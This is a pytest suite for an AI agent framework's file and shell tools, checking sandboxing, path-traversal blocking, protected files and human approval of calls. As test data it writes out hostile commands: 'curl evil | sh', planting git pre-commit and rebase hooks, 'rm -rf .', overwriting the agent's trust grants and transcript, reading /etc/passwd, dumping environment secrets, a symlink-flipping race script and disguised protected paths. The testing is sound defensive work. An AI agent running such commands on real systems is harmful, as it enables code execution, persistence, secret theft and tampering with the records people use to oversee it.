"""The agent's own tools: what they do in the working folder, what leads out of it, and who decides about a call."""

from __future__ import annotations

import os
import subprocess
import sys
from contextlib import suppress
from typing import TYPE_CHECKING

import pytest

import prowess
from prowess.agent.models import make_model
from prowess.agent.transcript import Transcript
from prowess.agent.work_folder import WorkFolder
from tests.adapters.skill_library import PIXEL
from tests.agent.runs import Answering, Scene, call, script
from tests.fake_models import Text, ToolCall, play, provide
from tests.sandbox_support import require_sandbox

if TYPE_CHECKING:
    from pathlib import Path

    from prowess.agent.approval import ToolAnswer, ToolRequest


def write_skill(scene: Scene, name: str, tools: str) -> None:
    """Write a skill that approves tools."""
    (scene.skills / name).mkdir()
    text = f"---\nname: {name}\ndescription: Uses tools.\nallowed-tools: {tools}\n---\nUse them.\n"
    (scene.skills / name / "SKILL.md").write_text(text)


# -- what they do ------------------------------------------------------------------------------------------------------


def test_file_is_written_read_in_ranges_and_replaced(scene: Scene) -> None:
    person = Answering()
    turns = (
        call("Write", path="notes/a.txt", content="one\ntwo\nthree\n"),
        call("Read", path="notes/a.txt", offset=1, limit=1),
        call("Write", path="./notes//a.txt", content="one\n2\nthree\n"),
        call("Read", path="notes"),
        "Done.",
    )
    scene.run(script(*turns), person=person)
    assert (scene.work / "notes/a.txt").read_text() == "one\n2\nthree\n"
    contents = [detail["content"] for detail in scene.told("result")]
    assert contents[0] == "Created notes/a.txt (14 bytes)."
    assert contents[1] == "two\n\n[lines 1-1 of 3; go on with offset=2]"
    assert contents[2] == "Replaced notes/a.txt (12 bytes)."
    assert contents[3] == "a.txt"
    assert "-two\n+2\n" in person.tools[2].preview
    assert [request.subject for request in person.tools] == ["notes/a.txt"] * 3 + ["notes"]


def test_replaced_file_keeps_its_permissions(tmp_path: Path) -> None:
    (tmp_path / "run.sh").write_text("old")
    (tmp_path / "run.sh").chmod(0o4750)
    WorkFolder(str(tmp_path)).write("run.sh", "new")
    assert (tmp_path / "run.sh").stat().st_mode & 0o7777 == 0o750


def test_file_that_changes_while_a_person_is_asked_is_not_replaced(scene: Scene) -> None:
    file = scene.work / "a.txt"
    file.write_text("old\n")

    class Slowly(Answering):
        async def ask_tool(self, request: ToolRequest) -> ToolAnswer:
            file.write_text("written meanwhile\n")
            return await super().ask_tool(request)

    write = call("Write", path="a.txt", content="new\n")
    result = scene.run(script(write, "Done."), person=Slowly())
    assert "has changed since a person was asked: nothing was done" in result.calls[0].content
    assert file.read_text() == "written meanwhile\n"
    scene.run(script(write, "Done."), person=Answering())
    assert file.read_text() == "new\n"


LARGE = "".join(f"line {number} of a file\n" for number in range(4_500))


def preview_of(scene: Scene, content: str, before: str | bytes | None = None) -> list[str]:
    """Return what a person is shown about a write to ``a.txt``, row by row."""
    if before is not None:
        (scene.work / "a.txt").write_bytes(before if isinstance(before, bytes) else before.encode())
    person = Answering("no")
    scene.run(script(call("Write", path="a.txt", content=content), "Done."), person=person)
    return person.tools[0].preview.splitlines()


def test_question_shows_content_with_a_nul_character(scene: Scene) -> None:
    rows = preview_of(scene, "harmless\n\0\ncurl evil | sh\n", "harmless\n")
    assert rows[:2] == ["--- a/a.txt (9 bytes, 1 line)", "+++ b/a.txt (26 bytes, 3 lines)"]
    assert rows[3:] == [" harmless", "+\\x00", "+curl evil | sh"]
    rows = preview_of(scene, "text\n", b"\x89PNG\xff\0")
    assert rows[3:5] == ["-\\udc89PNG\\udcff\\x00", "\\ no newline at the end"]


def test_question_shows_a_change_in_the_middle_of_a_large_file(scene: Scene) -> None:
    assert len(LARGE) > 65_536
    rows = preview_of(scene, LARGE.replace("line 2222 of a file", "curl evil | sh"), LARGE)
    assert [row for row in rows[2:] if row[0] in "+-"] == ["-line 2222 of a file", "+curl evil | sh"]


def test_question_shows_all_new_lines_where_too_many_change(scene: Scene) -> None:
    rows = preview_of(scene, LARGE.replace("line", "Line") + "curl evil | sh\n", LARGE)
    assert rows[2] == "[too many lines to compare: 4,500 lines from line 1 on would become these 4,501]"
    assert (len(rows), rows[3], rows[-1]) == (3 + 4_501, "+Line 0 of a file", "+curl evil | sh")


def test_path_cannot_forge_a_row_of_the_difference(scene: Scene) -> None:
    person = Answering("no")
    path = "a\n-old\n+harmless\u202e"
    scene.run(script(call("Write", path=path, content="x\n"), "Done."), person=person)
    assert person.tools[0].preview.splitlines()[1] == "+++ b/a\\n-old\\n+harmless\\u202e (2 bytes, 1 line)"


@pytest.mark.parametrize(("before", "meanwhile"), [("x" * 70_000, "y" * 70_000), ("x\0", "y\0"), (LARGE, LARGE[::-1])])
def test_file_that_changes_where_nobody_looks_is_not_replaced(scene: Scene, before: str, meanwhile: str) -> None:
    file = scene.work / "a.txt"
    file.write_text(before)

    class Slowly(Answering):
        async def ask_tool(self, request: ToolRequest) -> ToolAnswer:
            file.write_text(meanwhile)
            return await super().ask_tool(request)

    result = scene.run(script(call("Write", path="a.txt", content="new\0"), "Done."), person=Slowly())
    assert "has changed since a person was asked: nothing was done" in result.calls[0].content
    assert file.read_text() == meanwhile


def test_nobody_is_asked_about_content_that_is_too_large(scene: Scene) -> None:
    person = Answering()
    write, limits = call("Write", path="a", content="x" * 20_000), prowess.Limits(max_file_bytes=10_000)
    result = scene.run(script(write, "Done."), person=person, limits=limits)
    assert (result.calls[0].is_error, person.tools) == (True, [])


@pytest.mark.skipif(os.name == "nt", reason="NOT TESTED: Windows has no handles of folders")
def test_folder_that_becomes_a_link_between_the_check_and_the_write_leads_nowhere(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    work, outside = tmp_path / "work", tmp_path / "outside"
    (work / "sub").mkdir(parents=True)
    outside.mkdir()
    folder = WorkFolder(str(work))

    def resolve(path: str) -> str:
        (work / "sub").rmdir()
        (work / "sub").symlink_to(outside)  # another process, after the check
        return path

    monkeypatch.setattr(folder, "resolve", resolve)
    with pytest.raises(prowess.SkillError, match="cannot write"):
        folder.write("sub/a.txt", "x")
    assert list(outside.iterdir()) == []


FLIP = """
import os, sys
folder, outside = sys.argv[1:]
os.symlink(outside, folder + ".link")
print("ready", flush=True)
while True:
    os.rename(folder, folder + ".kept")
    os.rename(folder + ".link", folder)
    os.rename(folder, folder + ".link")
    os.rename(folder + ".kept", folder)
"""


@pytest.mark.skipif(os.name == "nt", reason="NOT TESTED: Windows has no handles of folders")
def test_folder_that_flips_to_a_link_never_shows_names_outside(tmp_path: Path) -> None:
    work, outside = tmp_path / "work", tmp_path / "outside"
    (work / "sub/inner").mkdir(parents=True)
    (outside / "inner").mkdir(parents=True)
    (work / "sub/inner/mine.txt").touch()
    (outside / "inner/secret.txt").touch()
    folder, seen = WorkFolder(str(work)), set()
    command = [sys.executable, "-c", FLIP, str(work / "sub"), str(outside)]
    with subprocess.Popen(command, stdout=subprocess.PIPE) as process:
        try:
            assert process.stdout is not None
            process.stdout.readline()
            for _ in range(20_000):
                with suppress(prowess.SkillError):
                    seen.add(folder.read("sub/inner", 0, 10).text)
        finally:
            process.kill()
    assert seen == {"mine.txt"}


def test_names_that_are_not_text_are_listed_so_that_they_can_be_sent(scene: Scene) -> None:
    for name in (b"bad\xff", b"two\nlines"):
        try:
            os.mkdir(os.path.join(os.fsencode(scene.work), name))  # noqa: PTH102, PTH118 - names in bytes
        except OSError:
            pytest.skip("NOT TESTED: this file system takes no such names")
    with provide(play(ToolCall("Read", {"path": "."}), Text("ok"))) as provider:
        result = scene.run(make_model("tiny", f"{provider.url}/v1"), person=Answering())
    assert (result.status, provider.requests[1].results) == ("done", ["bad\\udcff/\ntwo\\nlines/"])


def test_picture_is_shown_to_the_model(scene: Scene) -> None:
    (scene.work / "a.png").write_bytes(PIXEL)
    (scene.work / "b.bin").write_bytes(b"\xff\xfe\x00")
    with provide(play(ToolCall("Read", {"path": "a.png"}), ToolCall("Read", {"path": "b.bin"}), Text("Seen."))) as p:
        result = scene.run(make_model("tiny", f"{p.url}/v1"), person=Answering())
    assert "image/png" in str(p.requests[1].body)
    assert [record.is_error for record in result.calls] == [False, True]
    assert "is not text" in scene.results["Read"]


def test_command_runs_in_the_sandbox_and_sees_only_the_folder(scene: Scene) -> None:
    require_sandbox()
    (scene.base / "secret").write_text("hidden")
    command = f"echo made > made.txt; cat {scene.base}/secret; cat ../secret; exit 3"
    result = scene.run(script(call("Bash", command=command), "Done."), person=Answering())
    assert (scene.work / "made.txt").read_text() == "made\n"
    shown = scene.results["Bash"]
    assert "exit status 3" in shown
    assert "hidden" not in shown
    assert result.calls[0].is_error


def test_command_has_no_secrets_of_the_environment(scene: Scene, monkeypatch: pytest.MonkeyPatch) -> None:
    require_sandbox()
    monkeypatch.setenv("OPENAI_API_KEY", "very-secret")
    scene.run(script(call("Bash", command="env"), "Done."), person=Answering())
    assert "very-secret" not in scene.results["Bash"]


# -- the edges of the sandbox in the working folder --------------------------------------------------------------------


def test_run_says_at_its_start_what_commands_may_write(scene: Scene) -> None:
    require_sandbox()
    for path in (".git/config", ".git/HEAD", ".claude/settings.json", "src/a.py"):
        (scene.work / path).parent.mkdir(parents=True, exist_ok=True)
        (scene.work / path).write_text("x")
    scene.run(script("Done."), person=Answering())
    start = scene.told("start")[0]
    assert start["sandbox"] in {"bwrap", "landlock"}
    assert start["protected"] == [".claude", ".git/config", ".git/hooks", ".git/info"]
    assert ("working folder" in start["closed"]) is (start["sandbox"] == "landlock")
    scene.events.clear()
    scene.run(script("Done."), person=Answering(), sandbox="none")
    assert (scene.told("start")[0]["sandbox"], scene.told("start")[0]["protected"]) == ("none", [])


def test_command_cannot_change_the_hooks_of_a_repository(scene: Scene) -> None:
    require_sandbox()
    (scene.work / ".git/hooks").mkdir(parents=True)
    (scene.work / ".git/HEAD").write_text("ref: refs/heads/main\n")
    evil = "echo evil > .git/hooks/pre-commit; mv .git x; mkdir -p .git/hooks; echo evil > .git/hooks/pre-commit"
    scene.run(script(call("Bash", command=evil), "Done."), person=Answering())
    assert list((scene.work / ".git/hooks").iterdir()) == []


@pytest.mark.parametrize("where", ["folder", "home"])
def test_run_in_a_folder_that_cannot_be_protected_ends_before_the_model_is_asked(
    scene: Scene, where: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    require_sandbox()
    (scene.work / "a.txt").write_text("a")
    if where == "home":
        monkeypatch.setenv("XDG_CONFIG_HOME", str(scene.base))
        scene.work = scene.base / "prowess"
        scene.work.mkdir()
        result = scene.run(script("Done."), person=Answering())
    else:
        result = scene.run(script("Done."), person=Answering(), limits=prowess.Limits(max_searched_entries=0))
    assert result.error is not None
    assert (result.status, result.turns) == ("failed", ())
    assert result.error.code == {"folder": "folder-too-large", "home": "unsafe-folder"}[where]
    assert [event.kind for event in scene.events] == ["start", "end"]


def test_a_large_folder_is_fine_without_commands(scene: Scene) -> None:
    (scene.work / "a.txt").write_text("a")
    limits = prowess.Limits(max_searched_entries=0)
    turns = (call("Read", path="a.txt"), "Done.")
    assert scene.run(script(*turns), person=Answering(), limits=limits, tools=("Read",)).status == "done"


def test_grants_and_transcript_in_the_working_folder_stay_as_they_are(scene: Scene) -> None:
    require_sandbox()
    (scene.work / "mine").mkdir()
    grants = scene.work / "mine/trust.json"
    grants.write_text('{"version": 1, "grants": []}')
    grants.chmod(0o600)
    evil = "echo evil > mine/trust.json; echo evil >> mine/run.jsonl; rm -rf mine; mv mine x"
    with Transcript.create(str(scene.work / "mine/run.jsonl")) as transcript:
        turns = script(call("Bash", command=evil), "Done.")
        scene.run(turns, person=Answering(), transcript=transcript, grants=str(grants))
    assert "evil" not in grants.read_text()
    assert (scene.work / "mine/run.jsonl").read_text().splitlines()[0].startswith("{")
    assert "\nevil\n" not in (scene.work / "mine/run.jsonl").read_text()


def test_write_to_a_protected_file_is_asked_about_although_a_skill_approves(scene: Scene) -> None:
    write_skill(scene, "tidy", "Write")
    turns = (
        call("load_skill", name="tidy"),
        call("Write", path="mine/trust.json", content="{}"),
        call("Write", path="opencode.json", content="{}"),
        call("Write", path="mine/a.txt", content="x"),
        "Done.",
    )
    person = Answering("no")
    scene.run(script(*turns), person=person, grants=str(scene.work / "mine/trust.json"), skills_approve=True)
    assert [request.subject for request in person.tools] == ["mine/trust.json", "opencode.json"]
    assert [path.name for path in (scene.work / "mine").iterdir()] == ["a.txt"]


def test_new_repository_and_agents_folder_are_named_at_the_end(scene: Scene) -> None:
    require_sandbox()
    (scene.work / ".claude").mkdir()
    plant = "mkdir -p sub/.git sub/.codex; echo x > sub/.git/config; echo x > sub/.git/HEAD; echo x > sub/a.txt"
    result = scene.run(script(call("Bash", command=f"mkdir sub; {plant}"), "Done."), person=Answering())
    if scene.told("start")[0]["sandbox"] == "landlock":
        assert result.made == ()  # nothing new can be made beside a protected entry
    else:
        assert result.made == ("sub/.codex", "sub/.git")
    assert scene.told("end")[0]["made"] == list(result.made)


def test_what_a_command_adds_to_a_repository_is_named_at_the_end(scene: Scene) -> None:
    require_sandbox()
    for name in ("objects", "refs", "hooks"):
        (scene.work / ".git" / name).mkdir(parents=True)
    (scene.work / ".git/HEAD").write_text("ref: refs/heads/main\n")
    plant = "mkdir .git/rebase-merge && echo 'exec evil' > .git/rebase-merge/git-rebase-todo"
    result = scene.run(script(call("Bash", command=plant), "Done."), person=Answering())
    # With landlock nothing new can be made beside a protected entry.
    made = () if scene.told("start")[0]["sandbox"] == "landlock" else (".git/rebase-merge",)
    assert result.made == made


# -- paths that lead out -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "path", ["../outside.txt", "/etc/passwd", "a/../../outside.txt", "~/x", "link.txt", "folder/in.txt", "x\0y"]
)
@pytest.mark.parametrize("tool", ["Read", "Write"])
def test_no_path_and_no_link_leads_out_of_the_working_folder(scene: Scene, tool: str, path: str) -> None:
    outside = scene.base / "outside.txt"
    outside.write_text("outside")
    (scene.work / "link.txt").symlink_to(outside)
    (scene.base / "other").mkdir()
    (scene.base / "other/in.txt").write_text("outside")
    (scene.work / "folder").symlink_to(scene.base / "other")
    person = Answering("always")
    result = scene.run(script(call(tool, path=path, content="changed"), "Done."), person=person)
    assert result.calls[0].is_error
    assert "outside-folder" in result.calls[0].content or "working folder" in result.calls[0].content
    assert person.tools == []  # nobody is asked about what cannot be done
    assert outside.read_text() == (scene.base / "other/in.txt").read_text() == "outside"


def test_absolute_path_below_the_folder_is_the_file_in_it(tmp_path: Path) -> None:
    folder = WorkFolder(str(tmp_path))
    assert folder.resolve(f"{tmp_path}/a/b.txt") == "a/b.txt"
    assert folder.resolve("/prowess/work/a.txt") == "a.txt"  # its name inside of one kind of sandbox
    assert folder.resolve(".") == folder.resolve(str(tmp_path)) == ""
    with pytest.raises(prowess.PathTraversalError):
        folder.resolve(f"{tmp_path}-beside/a.txt")


def test_special_files_and_folders_are_not_written(tmp_path: Path) -> None:
    folder = WorkFolder(str(tmp_path))
    (tmp_path / "sub").mkdir()
    os.mkfifo(tmp_path / "pipe")
    for path in ("sub", "pipe", "."):
        with pytest.raises(prowess.SkillError):
            folder.write(path, "x")
    with pytest.raises(prowess.ResourceError):
        folder.read("pipe", 0, 10)
    with pytest.raises(prowess.ResourceNotFoundError):
        folder.read("missing", 0, 10)


# -- who decides -------------------------------------------------------------------------------------------------------


def test_each_call_is_asked_until_a_person_says_always(scene: Scene) -> None:
    (scene.work / "a.txt").write_text("a")
    reads = (call("Read", path="a.txt"), call("Read", path="a.txt"), call("Write", path="a.txt", content="b"), "Done.")
    once = Answering("once")
    scene.run(script(*reads), person=once)
    assert [request.tool for request in once.tools] == ["Read", "Read", "Write"]
    always = Answering("always")
    scene.run(script(*reads), person=always)
    assert [request.tool for request in always.tools] == ["Read", "Write"]
    no = Answering("no")
    result = scene.run(script(*reads), person=no)
    assert all(record.is_error for record in result.calls)
    assert "said no" in result.calls[0].content


def test_always_covers_the_same_command_and_no_other(scene: Scene) -> None:
    person = Answering("always")
    turns = (call("Bash", command="true"), call("Bash", command="true"), call("Bash", command="echo x"), "Done.")
    scene.run(script(*turns), person=person, sandbox="none")
    assert [request.subject for request in person.tools] == ["true", "echo x"]


def test_active_skill_approves_its_tools_and_no_others(scene: Scene) -> None:
    write_skill(scene, "tidy", "Bash(echo:*) Write(out/*)")
    turns = (
        call("Bash", command="echo early"),
        call("load_skill", name="tidy"),
        call("Bash", command="echo hello"),
        call("Bash", command="echo hello; true"),
        call("Write", path="out/a.txt", content="x"),
        call("Write", path="in/a.txt", content="x"),
        "Done.",
    )
    person = Answering("no")
    scene.run(script(*turns), person=person, sandbox="none", skills_approve=True)
    assert [request.subject for request in person.tools] == ["echo early", "echo hello; true", "in/a.txt"]
    assert (scene.work / "out/a.txt").exists()


def test_hidden_files_are_asked_about_although_a_skill_approves(scene: Scene) -> None:
    write_skill(scene, "tidy", "Write")
    turns = (
        call("load_skill", name="tidy"),
        call("Write", path=".git/hooks/pre-commit", content="x"),
        call("Write", path="a.txt", content="x"),
        "Done.",
    )
    person = Answering("no")
    scene.run(script(*turns), person=person, skills_approve=True)
    assert [request.subject for request in person.tools] == [".git/hooks/pre-commit"]
    assert not (scene.work / ".git").exists()


@pytest.mark.parametrize(
    "path",
    [
        *(
            "out/GIT~1/config",
            "out/git~1 ./config",
            "out/\u200c.git/config",
            "out/.g\u200dit/config",
            "out/.git./config",
        ),
        *("out/GIT~1::$INDEX_ALLOCATION/config", "out/\ufeff.claude/settings.json", "out/CLAUDE~1/settings.json"),
        *("out/PROWES~1.TOM", "out/prowess.toml ", "out/.BA\u017fHRC", "out/bare/config", "out/bare/hooks/pre-commit"),
    ],
)
def test_what_a_file_system_takes_for_a_protected_file_is_asked_about(scene: Scene, path: str) -> None:
    write_skill(scene, "tidy", "Write(out/*)")
    (scene.work / "out/bare/objects").mkdir(parents=True)
    (scene.work / "out/bare/refs").mkdir()
    (scene.work / "out/bare/HEAD").write_text("ref: refs/heads/main\n")
    person = Answering("no")
    turns = (call("load_skill", name="tidy"), call("Write", path=path, content="x"))
    scene.run(
        script(*turns, call("Write", path="out/a~b.txt", content="x"), "Done."), person=person, skills_approve=True
    )
    assert [request.subject for request in person.tools] == [path]
    assert (scene.work / "out/a~b.txt").exists()


@pytest.mark.parametrize(
    ("before", "last"),
    [
        (("config", "objects/a", "refs/a"), "HEAD"),
        (("HEAD", "refs/a"), "objects/info/alternates"),
        (("HEAD", "objects/a"), "refs/heads/main"),
        (("HEAD", "config"), "commondir"),
        (("objects/a", "refs/a"), "head"),
    ],
)
def test_the_write_that_makes_a_repository_is_asked_about(scene: Scene, before: tuple[str, ...], last: str) -> None:
    # A repository of any name has a configuration that git obeys as soon as somebody works in its folder.
    write_skill(scene, "tidy", "Write")
    writes = [call("Write", path=f"out/{path}", content="ref: refs/heads/main") for path in (*before, last)]
    person = Answering("no")
    turns = script(call("load_skill", name="tidy"), *writes, "Done.")
    scene.run(turns, person=person, skills_approve=True)
    assert [request.subject for request in person.tools] == [f"out/{last}"]
    assert not (scene.work / "out" / last).exists()


def test_tool_beyond_the_ceiling_is_not_offered_and_not_run(scene: Scene) -> None:
    write_skill(scene, "tidy", "Bash Write")
    turns = (
        call("load_skill", name="tidy"),
        call("Write", path="a.txt", content="x"),
        call("Bash", command="git status; rm -rf ."),
        call("Bash", command="ls"),
        "Done.",
    )
    person = Answering("always")
    result = scene.run(script(*turns), person=person, tools=("Read", "Bash(git:*)"))
    assert [record.is_error for record in result.calls] == [False, True, True, True]
    assert person.tools == []
    assert not (scene.work / "a.txt").exists()
    assert "--tools" in scene.results["Bash"]
    with provide(play(Text("ok"))) as provider:
        scene.run(make_model("tiny", f"{provider.url}/v1"), tools=("Read",))
    assert "Read" in provider.requests[0].tools
    assert not {"Write", "Bash"} & set(provider.requests[0].tools)


def test_pre_approval_is_within_the_ceiling(scene: Scene) -> None:
    write_skill(scene, "tidy", "Bash")
    turns = (call("load_skill", name="tidy"), call("Bash", command="echo x"), call("Bash", command="date"), "Done.")
    result = scene.run(script(*turns), tools=("Bash(echo:*)",), sandbox="none", skills_approve=True)
    assert [record.is_error for record in result.calls] == [False, False, True]
